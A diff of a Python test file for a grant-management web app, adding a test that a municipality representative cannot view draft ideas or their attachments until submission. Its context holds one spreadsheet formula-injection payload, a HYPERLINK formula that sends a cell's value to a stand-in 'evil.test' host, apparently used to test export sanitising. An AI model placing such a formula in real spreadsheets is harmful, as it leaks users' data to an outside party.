@@ -11,8 +11,10 @@ from openpyxl import load_workbook
 
 from grantflow.core.extensions import db
 from grantflow.core.safety import spreadsheet_cell
+from grantflow.workflow import engine
 from tests.conftest import login
 from tests.factories import PASSWORD
+from tests.test_apply import PDF
 from tests.test_ranking import scored
 
 HYPERLINK = '=HYPERLINK("http://evil.test/?leak="&C2,"Klikšķini")'
@@ -77,3 +79,22 @@ def test_deactivation_ends_the_sessions(client, app, factory):
     user.active = True  # even once active again, the old session stays ended
     db.session.commit()
     assert user.name not in _browser(app, session=session_cookie).get("/").get_data(as_text=True)
+
+
+# --- 3. the municipality sees filed ideas only ------------------------------------------------
+def test_the_municipality_cannot_read_drafts_or_their_files(client, factory):
+    from grantflow.ideas.operations import store_attachment
+
+    draft = factory.idea(competition=factory.competition(workflow="resource_centre"))
+    owner = factory.member_of(draft.organisation)
+    representative = factory.user("municipality", municipality=draft.municipality)
+    db.session.commit()
+    attachment = store_attachment(draft, "a.pdf", PDF, "quote", owner)
+    db.session.commit()
+    login(client, representative.email)
+    for url in (f"/ideas/{draft.id}", f"/apply/attachments/{attachment.id}"):
+        assert client.get(url).status_code == 404, url
+    engine.fire(draft, "submit", owner)
+    db.session.commit()
+    for url in (f"/ideas/{draft.id}", f"/apply/attachments/{attachment.id}"):
+        assert client.get(url).status_code == 200, url
